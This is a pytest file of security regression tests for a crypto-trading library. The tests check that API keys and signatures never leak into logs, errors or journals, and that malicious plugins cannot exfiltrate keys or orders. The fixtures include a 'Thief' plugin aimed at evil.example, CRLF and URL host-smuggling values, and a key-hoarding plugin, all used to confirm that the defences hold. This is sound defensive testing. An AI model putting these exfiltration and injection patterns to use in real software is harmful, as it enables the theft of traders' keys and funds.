"""Secrets that were shown and keys that were used by others: cases 31 to 36 of the incidents."""

import asyncio
import contextlib
import copy
import inspect
import json
import logging
import pickle
import traceback
from base64 import b64encode, urlsafe_b64encode
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any, ClassVar
from urllib.parse import parse_qs, quote

import attrs
import pytest
from aiohttp import web

import venuekit
from venuekit import limit_buy, market_buy
from venuekit.auth import Redactor
from venuekit.cli.command_line import CommandLine
from venuekit.model import (
    Instrument,
    NotSent,
    OrderRefused,
    OrderRequest,
    PluginError,
    VenuekitError,
)
from venuekit.plugin import Call, Custody, Key, Request, Stamp, hookimpl
from venuekit.plugin.discovery import Plugins
from venuekit.plugin.hooks import Hooks
from venuekit.sim.dialect import SimAnswer, SimRequest
from venuekit.sim.faults import FaultKind
from venuekit.sim.server import _control
from venuekit_binance.adapter import BinanceAdapter
from venuekit_binance.manifest import MANIFEST

if TYPE_CHECKING:
    from tests.incidents.conftest import Served, Town

BTC = "BTC/USDT"
BUY = limit_buy(BTC, quantity="0.01", price="60000")


def forms(secret: str) -> list[str]:
    """Give the ways in which a secret may be written."""
    raw = secret.encode()
    return [
        secret,
        raw.hex(),
        raw.hex().upper(),
        b64encode(raw).decode().rstrip("="),
        urlsafe_b64encode(raw).decode().rstrip("="),
        quote(secret, safe=""),
        json.dumps(secret)[1:-1],
    ]


def shown(secrets: list[str], texts: list[str]) -> list[str]:
    """Give the forms of secrets that stand in texts."""
    everything = "\n".join(texts)
    assert len(everything) > 1000  # else there was nothing to be found in
    return [form for secret in secrets for form in forms(secret) if form in everything]


def signatures(served: "Served | Town") -> list[str]:
    """Give every signature that reached the exchange."""
    found = []
    for each in served.dialect.reached:
        text = f"{each.request.query_string}&{each.request.body.decode()}"
        found += parse_qs(text).get("signature", [])
    return found


def told(error: BaseException) -> list[str]:
    """Give all that can be printed of an error, and the local variables of our frames in it."""
    texts = [str(error), repr(error), str(vars(error)), *traceback.format_exception(error)]
    for each in chain(error):
        for frame, _ in traceback.walk_tb(each.__traceback__):
            if "venuekit" in frame.f_globals.get("__name__", ""):
                texts += [repr(value) for value in frame.f_locals.values()]
    return texts


def chain(error: BaseException | None) -> Iterator[BaseException]:
    """Give an error and every other one that hangs on it."""
    if error is not None:
        yield error
        yield from chain(error.__cause__)
        yield from chain(error.__context__)
        if isinstance(error, BaseExceptionGroup):
            for inner in error.exceptions:
                yield from chain(inner)


def contents_of(folder: Path) -> str:
    """Give all files of the journal as text."""
    files = [path.read_bytes() for path in folder.glob("journal.db*")]
    assert files
    return b"".join(files).decode("latin-1")


async def failures(served: "Served", exchange: Any) -> list[VenuekitError]:
    """Let signed requests fail in every way, and gather what the application gets."""
    gathered = []
    for fault in (
        {"kind": FaultKind.RESET_AFTER},
        {"kind": FaultKind.DROP_AFTER},
        {"kind": FaultKind.ANSWER_BEFORE, "answer": "bad_key"},
        {"kind": FaultKind.ANSWER_BEFORE, "answer": "unavailable"},
        {"kind": FaultKind.ANSWER_BEFORE, "status": 200, "body": "no JSON"},
        {"kind": FaultKind.ANSWER_BEFORE, "status": 307, "body": "elsewhere"},
    ):
        served.fault(method="GET", path="/api/v3/account", count=3, **fault)
        with pytest.raises(VenuekitError) as raised:
            await exchange.fetch_balances()
        gathered.append(raised.value)
        served.dialect.faults.clear()
    return gathered


# What is printed


async def test_case_31_neither_settings_nor_errors_nor_logs_show_a_key(
    simulator: "Served", caplog: pytest.LogCaptureFixture
) -> None:
    """freqtrade/freqtrade#6016: the configuration was logged at the start, keys and all;
    ccxt/ccxt#761: the exception of a failed request quoted the signed URL.

    Given a program that logs everything at the lowest level, prints its settings and its handle,
    and prints errors with the local variables of every frame; then no form of the secret, the API
    key or any signature is in it.
    """
    caplog.set_level(logging.DEBUG)
    configuration = simulator.configuration()
    async with simulator.open() as ex:
        await ex.place(market_buy(BTC, "0.001"))
        errors = await failures(simulator, ex)
        texts = [repr(ex), str(ex), repr(configuration), str(configuration)]
        texts += [repr(simulator.configuration().select("binance")), str(ex.limits())]
    for error in errors:
        texts += told(error)
        logging.getLogger("application").error("failed", exc_info=error)
    texts += [caplog.text, *(str(vars(record)) for record in caplog.records)]

    made = signatures(simulator)
    assert len(made) >= len(errors) >= 6
    assert shown([simulator.key.secret, simulator.key.api_key, *made], texts) == []


@pytest.mark.parametrize("status", [404, 414, 502])
async def test_case_31_an_error_page_that_quotes_the_url_does_not_pass_it_on(
    binance: "Town", caplog: pytest.LogCaptureFixture, status: int
) -> None:
    """The same, when it is the answer that quotes the signed URL and the key's header, as the
    pages of proxies do.

    Given such pages, the URL at every place of them, so that a page which is shortened is cut in
    the middle of a signature too; then not even the half of one is in error or log.
    """
    caplog.set_level(logging.DEBUG)
    texts: list[str] = []
    async with binance.open() as ex:
        for before in range(0, 300, 10):

            def page(asked: SimRequest, _: SimAnswer, before: int = before) -> SimAnswer:
                url = f"{asked.path}?{asked.query_string}{asked.body.decode()}"
                text = f"{'.' * before}{url} by {asked.header('x-mbx-apikey')} is not here"
                return SimAnswer(status, (("Content-Type", "text/html"),), text.encode())

            binance.dialect.rewrite = page
            with pytest.raises(VenuekitError) as raised:
                await (ex.fetch_fees(BTC) if before % 20 else ex.cancel("nobody", BTC))
            texts += told(raised.value)
        binance.dialect.rewrite = lambda _, answer: answer
    texts += [caplog.text, *(str(vars(record)) for record in caplog.records)]

    secrets = [*signatures(binance), binance.key.api_key]
    assert len(secrets) > 30
    everything = "\n".join(texts)
    assert not [secret for secret in secrets if secret[:24] in everything]


async def test_case_32_what_the_network_raised_does_not_travel_on(
    simulator: "Served", caplog: pytest.LogCaptureFixture
) -> None:
    """aio-libs/aiohttp#8402, encode/httpx#2760, MehdiZare/fmp-data#350: the exception of the HTTP
    library, or its log at INFO, held the URL; whoever logged the error, or sent it to Sentry,
    published the signature.

    Given signed requests that break in every way; then what is raised are our own errors, nothing
    of aiohttp hangs on them, in no cause and no context, and no log line shows a query.
    """
    caplog.set_level(logging.DEBUG)
    async with simulator.open() as ex:
        errors = await failures(simulator, ex)

    for error in errors:
        kinds = {type(each).__module__.partition(".")[0] for each in chain(error)}
        assert kinds <= {"venuekit", "venuekit_binance"}
    lines = [record.getMessage() for record in caplog.records]
    assert not [line for line in lines if "signature=" in line or "timestamp=" in line]
    assert shown(signatures(simulator), [text for error in errors for text in told(error)]) == []


async def test_case_33_a_secret_that_the_exchange_sends_back_is_cleaned_by_its_value(
    simulator: "Served", caplog: pytest.LogCaptureFixture
) -> None:
    """kevin1024/vcrpy#961, datahub-project/datahub#19332: a filter for some headers of requests
    let the same secret through in bodies, answers and Set-Cookie, and it was committed.

    Given an exchange that sends key and secret back in its error texts, in members that nobody
    asked for, and in a cookie; then neither errors nor logs nor the journal have them, in any
    form: what is cleaned is the value, wherever it stands.

    Waits for a later issue: the recorder of cassettes, which is to clean by the same `Redactor`
    and to refuse to write where `Redactor.finds` still finds something.
    """
    caplog.set_level(logging.DEBUG)
    key = simulator.key
    canaries = f"{key.secret} {key.api_key} {b64encode(key.secret.encode()).decode()}"

    def echoing(_: SimRequest, answer: SimAnswer) -> SimAnswer:
        body = answer.body
        if body.startswith(b'{"symbol"'):
            body = body[:-1] + f',"echo":"{canaries}","clientNote":"{key.secret}"'.encode()
            # Where what is kept of a long answer ends, in the middle of a secret.
            body += b',"pad":"' + b"." * (65_500 - len(body)) + f'{key.secret}"}}'.encode()
        cookie = ("Set-Cookie", f"session={key.secret}; key={key.api_key}")
        return SimAnswer(answer.status, (*answer.headers, cookie), body)

    simulator.dialect.rewrite = echoing
    texts: list[str] = []
    async with simulator.open() as ex:
        bid, _ = (await ex.fetch_book(BTC, depth=1)).bids[0]
        order = await ex.place(limit_buy(BTC, quantity="0.001", price=bid - 1000))
        texts += [repr(order), *(str(entry) for entry in await ex.history(order))]
        for method in ("GET", "POST"):
            body = json.dumps({"code": -2010, "msg": f"no funds for {canaries}"})
            simulator.fault(FaultKind.ANSWER_BEFORE, method=method, count=3, status=400, body=body)
            with pytest.raises(VenuekitError) as raised:
                await (ex.place(BUY) if method == "POST" else ex.fetch_balances())
            assert "no funds for" in str(raised.value)
            texts += told(raised.value)
            simulator.dialect.faults.clear()
    texts += [caplog.text, *(str(vars(record)) for record in caplog.records)]
    texts.append(contents_of(simulator.folder))

    assert shown([key.secret, key.api_key], texts) == []
    assert "[redacted]" in texts[-1]  # answers are kept, cleaned
    assert "....." in texts[-1]
    assert not [text for text in texts if key.secret[:12] in text]


def test_case_33_the_redactor_finds_a_secret_in_all_that_a_recorder_would_write() -> None:
    """The part of it that a recorder is to be built on: one value, every place and every form."""
    redactor = Redactor()
    secret = "c4n4ry/Secret+of=the-trader"
    redactor.add(secret)
    for form in forms(secret):
        for text in (
            f"GET /account?key={form}&x=1",
            f"Set-Cookie: session={form}; Path=/",
            f'{{"deep": [{{"er": "{form}"}}]}}',
        ):
            assert redactor.finds(text)
            assert form not in redactor.clean(text)
            assert not redactor.finds(redactor.clean(text))


# Who may ask


async def test_case_34_the_simulators_control_serves_this_machine_alone(
    simulator: "Served",
) -> None:
    """Drakkar-Software/OctoBot#1966: the web panel had no password and listened everywhere; 44 of
    them were on Shodan, and keys were stolen through them.

    Given the one port that we open, the simulator's; then it listens on 127.0.0.1 alone, its
    control refuses whoever comes from elsewhere (through a proxy), and tells no key.

    Waits for a later issue: the dashboard, with its token, its Host and Origin checks.
    """
    port = simulator.simulator.port
    with pytest.raises(OSError, match="Connect call failed"):
        await asyncio.open_connection("127.0.0.2", port)  # answered, if it listened on 0.0.0.0
    state = await request(port, "GET", "/_sim/state")
    assert state.startswith("HTTP/1.1 200")
    assert simulator.key.secret not in state
    assert simulator.key.api_key not in state


@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", "/_sim/state"), ("POST", "/_sim/faults"), ("DELETE", "/_sim/faults")],
)
async def test_case_34_the_control_refuses_who_comes_from_elsewhere(
    simulator: "Served", method: str, path: str
) -> None:
    """The same, if the port is forwarded: 403 before anything is looked at, and nothing done."""
    simulator.fault(FaultKind.CLOSE)
    body = b'{"kind": "drop_after"}' if method == "POST" else b""
    for peer in ("10.0.0.7", "192.168.1.2", "::ffff:10.0.0.7", ""):
        asked = SimRequest(method=method, path=path, body=body, peer=peer)
        answer = _control(simulator.dialect, asked)
        assert answer.status == 403
    assert len(simulator.dialect.faults.planned) == 1


async def test_case_34_no_name_from_outside_chooses_what_is_called(simulator: "Served") -> None:
    """opencryptotrader/arbbot#31: a parameter of the log page named the method to call, and
    `withdraw` was one.

    Given control paths and commands that name methods of ours; then they are unknown, and nothing
    is called. A handle has nothing that withdraws: no plugin here offers custody.
    """
    port = simulator.simulator.port
    before = len(simulator.dialect.reached)
    for name in ("withdraw", "credentials", "handle", "create_account", "__class__", "venue"):
        for method in ("GET", "POST", "DELETE"):
            for path in (f"/_sim/{name}", f"/_sim/state/{name}", f"/_sim/faults/{name}"):
                answer = await request(port, method, path, "{}")
                assert answer.startswith("HTTP/1.1 404")
    assert len(simulator.dialect.reached) == before
    assert simulator.dialect.faults.planned == {}

    for name in ("withdraw", "transfer", "_run", "__init__", "sapi"):
        assert CommandLine().run([name, "BTC", "1"]) != 0
    assert not issubclass(BinanceAdapter, Custody)
    async with simulator.open() as ex:
        offered = {name for name, _ in inspect.getmembers(ex, callable)}
        assert "cancel" in offered
        assert not [name for name in offered if "withdraw" in name or "transfer" in name]


async def request(port: int, method: str, path: str, body: str = "") -> str:
    """Send a request as it is written here; gives the whole answer."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
    answer = (await reader.read()).decode()
    writer.close()
    with contextlib.suppress(ConnectionError):
        await writer.wait_closed()
    return answer


# Hostile plugins, stolen keys


class Thief(BinanceAdapter):
    """A plugin that signs properly, and sends orders to somebody else."""

    elsewhere = Request(method="POST", host="https://evil.example", path="/steal")

    def place(self, request: OrderRequest, instrument: Instrument) -> Call[Any]:
        call = super().place(request, instrument)
        where = self.elsewhere
        return attrs.evolve(
            call, request=attrs.evolve(call.request, host=where.host, path=where.path)
        )


@contextlib.asynccontextmanager
async def somebody_else() -> Any:
    """Serve another machine, in the sense of another port; gives its port and what reached it."""
    reached: list[str] = []

    async def take(asked: web.BaseRequest) -> web.Response:
        reached.append(f"{asked.method} {asked.path_qs} {dict(asked.headers)}")
        return web.Response(text="{}")

    runner = web.ServerRunner(web.Server(take, access_log=None))
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        yield runner.addresses[0][1], reached
    finally:
        await runner.cleanup()


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("http://127.0.0.1:{port}", "/steal"),
        ("127.0.0.1:{port}", "/steal"),
        ("evil", "/steal"),
        ("rest", "http://127.0.0.1:{port}/steal"),
        ("rest", "//127.0.0.1:{port}/steal"),
        ("rest", "@127.0.0.1:{port}/steal"),
        ("rest", "/\r\nHost: 127.0.0.1:{port}\r\n/steal"),
    ],
)
async def test_case_35_a_plugin_can_send_nothing_to_a_host_that_its_manifest_does_not_name(
    simulator: "Served", host: str, path: str
) -> None:
    """ccxt-mexc-futures on PyPI, April 2025: a package that looked like an exchange's client
    replaced the signing, and sent keys and orders to a host of its own.

    Given a plugin that aims its placements elsewhere, by host name or through the path; then the
    order is proved not sent, and neither the other host nor the exchange has seen anything of it.
    """
    async with somebody_else() as (port, reached):
        manifest = attrs.evolve(
            MANIFEST,
            adapter=type(
                "Aimed",
                (Thief,),
                {
                    "elsewhere": Request(
                        method="POST", host=host.format(port=port), path=path.format(port=port)
                    )
                },
            ),
        )
        async with simulator.open(plugins=Plugins(manifests=[manifest])) as ex:
            with pytest.raises(NotSent):
                async with asyncio.timeout(5):
                    await ex.place(BUY)
        assert reached == []
    methods = {each.request.method for each in simulator.dialect.reached}
    assert methods == {"GET"}
    assert simulator.dialect.orders() == []


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_case_35_no_redirect_takes_a_signed_request_elsewhere(
    simulator: "Served", status: int
) -> None:
    """The same from the other end: whoever answers for the exchange cannot send us on.

    (aiohttp by itself would repeat the signed body and the key's header at the new host.)
    """
    async with somebody_else() as (port, reached):
        location = ("Location", f"http://127.0.0.1:{port}/steal")
        async with simulator.open() as ex:
            simulator.dialect.rewrite = lambda *_: SimAnswer(status, (location,), b"")
            with pytest.raises(VenuekitError):
                await ex.fetch_balances()
            simulator.dialect.rewrite = lambda _, answer: answer
        assert reached == []


class Curious(BinanceAdapter):
    """A plugin that keeps the key it is given, to look at it."""

    seen: ClassVar[list[Key]] = []

    def sign(self, request: Request, key: Key, stamp: Stamp) -> Request:
        self.seen.append(key)
        return super().sign(request, key, stamp)


async def test_case_35_the_key_that_a_plugin_is_given_signs_and_cannot_be_read(
    simulator: "Served",
) -> None:
    """The same: the malicious package read the secret where it signed.

    Given a plugin that looks at its key in every ordinary way; then there is no secret: it is not
    printed, not among the attributes, and cannot be pickled, copied or written as JSON.

    Waits for a later issue: a signer in a process of its own. Inside one process Python isolates
    nothing, and `venuekit.auth.keys` says so.
    """
    plugins = Plugins(manifests=[attrs.evolve(MANIFEST, adapter=Curious)])
    Curious.seen.clear()
    async with simulator.open(plugins=plugins) as ex:
        await ex.fetch_balances()
    key = Curious.seen[0]
    looks = [repr(key), str(key), f"{key}", *map(repr, (vars(type(key)), dir(key)))]
    looks += [repr(getattr(key, name)) for name in dir(key) if not callable(getattr(key, name))]
    looks += [repr(value) for _, value in inspect.getmembers(key)]
    assert shown([simulator.key.secret], looks) == []
    assert not hasattr(key, "__dict__")
    for take in (pickle.dumps, copy.copy, copy.deepcopy, json.dumps):
        with pytest.raises(TypeError):
            take(key)
    assert key.hmac_hex(b"x") != key.hmac_hex(b"y")


def guard(**allowed: Any) -> SimpleNamespace:
    """Make an extension that lets small orders on few instruments through."""

    def venuekit_veto_order(request: OrderRequest, instrument: Instrument) -> str | None:
        if instrument.symbol not in allowed["symbols"]:
            return f"{instrument.symbol} is not on the list"
        if request.price is None or request.quantity is None:
            return "only orders whose size is known"
        notional = request.price * request.quantity
        return None if notional <= allowed["notional"] else f"{notional} is above the cap"

    return SimpleNamespace(venuekit_veto_order=hookimpl(venuekit_veto_order))


@pytest.mark.parametrize(
    "order",
    [
        limit_buy(BTC, quantity="1", price="60000"),
        limit_buy("DOGE/USDT", quantity="1000", price="0.2"),
        market_buy(BTC, "0.001"),
    ],
    ids=["above the cap", "a thin pair", "no known size"],
)
async def test_case_36_the_users_own_guard_stops_an_order_before_anything_is_written(
    binance: "Town", order: OrderRequest
) -> None:
    """3Commas, December 2022: about 100 000 keys without the right to withdraw were stolen; the
    thieves traded the victims' money away on thin pairs, for $22 million and more.

    Given a guard that the user has put in, with an allow-list and a cap; then an order outside of
    it is refused with its reason, before the journal and the exchange hear of it; one inside goes
    through.

    Waits for a later issue: the same rules in a signer of its own process, where a program that was
    taken over cannot pass by them; and the look at the key's rights and addresses at the start.
    """
    hooks = Hooks(modules={"guard": guard(symbols={BTC}, notional=1000)}, find=list, core="0.1.0")
    async with binance.open(hooks=hooks) as ex:
        with pytest.raises(OrderRefused) as refused:
            await ex.place(order)
        assert "order.vetoed" in {violation.reason for violation in refused.value.violations}
        assert binance.dialect.asked("POST") == []
        assert binance.known(ex) == {}
        await ex.place(BUY)
        assert len(binance.dialect.asked("POST")) == len(binance.known(ex)) == 1


async def test_case_36_a_guard_that_fails_lets_nothing_through(binance: "Town") -> None:
    """The same: who asked for a guard does not want to trade without it, broken or missing."""

    def venuekit_veto_order(request: OrderRequest) -> str | None:
        raise RuntimeError("no list today")

    broken = SimpleNamespace(venuekit_veto_order=hookimpl(venuekit_veto_order))
    hooks = Hooks(modules={"guard": broken}, find=list, core="0.1.0")
    async with binance.open(hooks=hooks) as ex:
        with pytest.raises(OrderRefused, match="guard"):
            await ex.place(BUY)
    config = binance.configuration(more='[plugins]\nrequired = ["guard"]')
    with pytest.raises(PluginError, match="guard"):
        await venuekit.open("binance", config=config, transport=binance.line()).__aenter__()
    assert binance.dialect.asked("POST") == []
